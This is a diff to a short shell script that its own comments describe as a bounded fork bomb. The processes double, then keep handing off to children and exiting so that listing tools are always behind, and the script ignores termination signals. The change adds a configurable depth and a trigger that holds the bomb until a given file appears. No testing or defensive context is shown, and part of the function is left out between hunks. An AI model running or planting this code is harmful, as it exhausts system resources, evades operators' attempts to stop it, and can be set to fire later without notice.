@@ -1,8 +1,8 @@
 #!/bin/sh
-# A fork bomb of bounded size: DEPTH generations that double, then lines of processes that hand over to a child and die,
-# for ever, so that whoever lists them is always late. 2 ** (DEPTH + 1) processes; they do not care for signals.
+# A fork bomb of bounded size: "$1" generations that double, then lines of processes that hand over to a child and die, for
+# ever, so that whoever lists them is always late. 2 ** ("$1" + 1) processes; they do not care for signals. It goes off
+# when the file "$2" is there, if that is given.
 trap '' TERM INT HUP QUIT
-DEPTH=7
 
 # shellcheck disable=SC2264
 hop() { hop & }
@@ -17,4 +17,5 @@ bomb() {
   fi
 }
 
-bomb "$DEPTH"
+until [ -z "${2-}" ] || [ -e "$2" ]; do sleep 0.1; done
+bomb "${1:-7}"
